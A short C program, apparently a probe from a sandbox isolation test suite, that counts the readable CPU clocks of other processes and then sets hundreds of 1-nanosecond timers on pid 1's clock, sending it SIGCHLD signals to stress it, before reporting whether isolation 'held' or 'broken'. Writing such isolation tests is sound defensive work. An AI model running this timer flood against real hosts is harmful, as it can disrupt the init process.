// Reads the processor clocks of pids that are not there, and sets hundreds of timers on that of pid 1, which fire whenever
// it works: the kernel lets everybody have timers on the clock of any process that they see.
#include <signal.h>
#include <time.h>

#include "attack.h"

int main(void) {
  clockid_t clock;
  timer_t timer;
  struct sigevent none = {.sigev_notify = SIGEV_NONE};
  int seen = 0;
  for (pid_t pid = 2; pid < 5000; pid++)
    if (pid != getpid() && clock_getcpuclockid(pid, &clock) == 0) seen++;
  if (seen)
    broken("clocks of %d others", seen);
  else
    held("no clock of another process");
  if (clock_getcpuclockid(1, &clock) != 0) return 0;
  const struct itimerspec often = {.it_interval = {.tv_nsec = 1}, .it_value = {.tv_nsec = 1}};
  int set = 0;
  while (set < 500 && timer_create(clock, &none, &timer) == 0 && timer_settime(timer, 0, &often, NULL) == 0) set++;
  for (int i = 0; i < 20; i++) kill(1, SIGCHLD);  // for which it wakes up
  usleep(50000);
  held("pid 1 works on under %d timers", set);
  return 0;
}
